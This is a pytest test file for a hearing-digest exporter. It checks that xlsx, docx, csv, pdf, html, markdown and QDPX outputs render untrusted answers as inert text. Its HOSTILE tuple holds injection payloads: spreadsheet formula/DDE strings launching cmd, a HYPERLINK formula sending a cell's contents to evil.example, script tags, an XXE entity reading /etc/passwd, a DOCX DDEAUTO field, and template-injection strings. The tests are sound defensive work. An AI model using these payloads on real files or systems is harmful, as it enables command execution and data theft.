"""Nothing in an output can run: no formula, no link outwards, no script, no field, whatever an answer holds."""

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from builders import Case, Said, labelled, source_of
from docx import Document
from lxml import etree
from matrix_desk import Desk, ids_of, rows_of, type_in_workbook
from pypdf import PdfReader

from hearing.core.model import Labelled
from hearing.digest.document.example_template import write_example
from hearing.digest.export import FORMATS
from hearing.digest.refi import Hearing, export_qdpx
from hearing.digest.write import Wanted, write_digest

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    '<script src="http://evil.example/x.js">alert(1)</script>',
    "<img src=x onerror=alert(1)> ]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r>",
    "http://evil.example/spor.png og file://evil.example/del og internal:x og mailto:a@evil.example",
    "[klikk](javascript:alert(1)) ![bilde](http://evil.example/x.png)",
    "_x003D_1+1 og _x000D_ og \x0b \x07 \x1b[31m \ufffe",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} %(n)s %s",
)


def hostile(text: str, number: int) -> Labelled:
    """An answer whose every part that it decides itself is hostile."""
    return labelled(
        f"{text} Kommune",
        Said(text, ("housing",), concern="underfunding", groups=("women",), stance="oppose"),
        source=f"{number} {text[:20].replace('/', ' ')}.docx",
        on_behalf_of=text,
        type_="city-district",
    )


ANSWERS = [hostile(text, number) for number, text in enumerate(HOSTILE)]


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path, ANSWERS, questions=(HOSTILE[0], HOSTILE[7]))


def parts(path: Path) -> Iterator[tuple[str, etree._Element]]:
    with ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels", ".qde")):
                yield name, etree.fromstring(archive.read(name), etree.XMLParser(resolve_entities=False))


def assert_nothing_can_run(path: Path, own_fields: tuple[str, ...] = ()) -> None:
    """No part can run anything; ``own_fields`` are instructions of our own."""
    with ZipFile(path) as archive:
        names = archive.namelist()
    assert not [
        name for name in names if re.search(r"vba|macro|activex|embed|externalLink|connections", name, re.I)
    ]
    for name, root in parts(path):
        tags = {etree.QName(element).localname for element in root.iter(etree.Element)}
        if own_fields and name == "word/document.xml":
            assert {one.text for one in root.iter("{*}instrText")} == set(own_fields)
            assert all(re.search(r"}anchor$", one.keys()[0]) for one in root.iter("{*}hyperlink"))
            tags -= {"instrText", "hyperlink"}
        assert not tags & {
            "f",
            "hyperlink",
            "hyperlinks",
            "instrText",
            "object",
            "OLEObject",
            "attachedTemplate",
        }, name
        for element in root.iter(etree.Element):
            assert element.get("TargetMode") != "External", name
            if etree.QName(element).localname == "fldSimple":
                assert element.values() == ["PAGE"]


def test_the_workbook_of_the_matrix_holds_text_only(desk: Desk) -> None:
    path = desk.out()
    assert_nothing_can_run(path)
    types = {cell.data_type for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row}
    assert types <= {"s", "n", "inlineStr"}
    assert {cell for row in rows_of(path) for cell in row} >= {text for text in HOSTILE if text.isprintable()}


def test_the_document_of_the_matrix_shows_markup_as_text(desk: Desk) -> None:
    path = desk.out("docx")
    assert_nothing_can_run(path)
    shown = "\n".join(
        cell.text for table in Document(str(path)).tables for row in table.rows for cell in row.cells
    )
    assert all(f"«{text}»" in shown for text in HOSTILE if text.isprintable())


@pytest.mark.parametrize("format_", ["xlsx", "docx"])
def test_what_a_case_handler_pastes_cannot_run_either(desk: Desk, format_: str) -> None:
    path = desk.out()
    ids = ids_of(path)
    pasted = {id_: {"assessment": text, "change": text} for id_, text in zip(ids, HOSTILE[:10], strict=False)}
    type_in_workbook(path, pasted)
    desk.into(path)
    assert len(desk.texts()) == 10
    assert_nothing_can_run(desk.out(format_))


@pytest.mark.parametrize("format_", ["xlsx", "docx"])
def test_loose_texts_cannot_run(desk: Desk, format_: str) -> None:
    path = desk.out()
    book = openpyxl.load_workbook(path)
    for text in HOSTILE[:10]:
        book.worksheets[0].append([None, None, text, *[None] * 16, text])
    book.save(path)
    desk.into(path)
    assert len(desk.matrix().loose) == 10
    assert_nothing_can_run(desk.out(format_))


def assert_harmless_csv(path: Path) -> None:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=";"))
    assert len({len(row) for row in rows}) == 1
    assert not [
        cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    ]


def test_the_csv_of_the_matrix_holds_no_formula(desk: Desk) -> None:
    assert_harmless_csv(desk.out("csv"))


@pytest.mark.parametrize("format_", ["csv", "xlsx", "jsonl"])
def test_exports_hold_no_formula(tmp_path: Path, format_: str) -> None:
    for path in FORMATS[format_]([source_of(one) for one in ANSWERS], iter(ANSWERS), tmp_path):
        match format_:
            case "csv":
                assert_harmless_csv(path)
            case "xlsx":
                assert_nothing_can_run(path)
            case _:
                assert all(json.loads(line) for line in path.read_text(encoding="utf-8").split("\n") if line)


def test_a_project_holds_text_only_and_no_path_outwards(tmp_path: Path) -> None:
    path = tmp_path / "hearing.qdpx"
    sources = {one.response.source: source_of(one) for one in ANSWERS}
    export_qdpx(iter(ANSWERS), Hearing(HOSTILE[7], "nb", Case(()).taxonomy, sources), path)
    assert_nothing_can_run(path)
    with ZipFile(path) as archive:
        assert all(re.fullmatch(r"project\.qde|Sources/[0-9a-f-]{36}\.txt", name) for name in archive.namelist())
    ((_, root),) = parts(path)
    assert all(
        re.fullmatch(r"internal://[0-9a-f-]{36}\.txt", source.get("plainTextPath", ""))
        for source in root.iter("{*}TextSource")
    )
    assert len(list(root.iter("{*}TextSource"))) == len(HOSTILE)


@pytest.mark.parametrize("in_a_template", [False, True])
def test_the_digest_as_a_document_shows_markup_as_text(tmp_path: Path, in_a_template: bool) -> None:
    template = tmp_path / "mal.docx" if in_a_template else None
    if template:
        write_example(template, "nb")
    digest = Case(tuple(ANSWERS), title=HOSTILE[7]).digest()
    (path,) = write_digest(digest, tmp_path, Wanted(("docx",), template))
    assert_nothing_can_run(path, own_fields=(r' TOC \o "1-2" \h \z \u ',))
    shown = "\n".join(paragraph.text for paragraph in Document(str(path)).paragraphs)
    assert all(f"«{text}»" in shown for text in HOSTILE if text.isprintable())


def test_the_digest_as_a_pdf_shows_markup_as_text_and_links_nowhere(tmp_path: Path) -> None:
    (path,) = write_digest(Case(tuple(ANSWERS), title=HOSTILE[7]).digest(), tmp_path, Wanted(("pdf",)))
    reader = PdfReader(path)
    shown = "".join("".join(page.extract_text() for page in reader.pages).split())
    assert all("".join(text.split()) in shown for text in HOSTILE if text.isprintable() and "＝" not in text)
    actions = [one.get_object() for page in reader.pages for one in page.get("/Annots", ())]
    assert not [one for one in actions if one.get("/A", {}).get("/S") in {"/URI", "/Launch", "/JavaScript"}]
    assert "/Names" not in reader.trailer["/Root"] or "/JavaScript" not in reader.trailer["/Root"]["/Names"]
    assert "/OpenAction" not in reader.trailer["/Root"]


def test_the_digest_shows_markup_as_text(tmp_path: Path) -> None:
    write_digest(Case(tuple(ANSWERS), title=HOSTILE[7]).digest(), tmp_path)
    page = (tmp_path / "digest.html").read_text(encoding="utf-8")
    root = etree.HTML(page)
    assert not root.xpath(
        "//script | //iframe | //object | //embed | //form | //*[starts-with(@href, 'javascript:')]"
    )
    assert not [name for element in root.iter(etree.Element) for name in element.attrib if name.startswith("on")]
    assert not root.xpath("//@src[not(starts-with(., 'data:'))] | //a/@href[starts-with(., 'http')]")
    markdown = (tmp_path / "digest.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<(?:script|img)", markdown)
    assert not re.search(r"(?<!\\)\]\((?:javascript|http)", markdown)
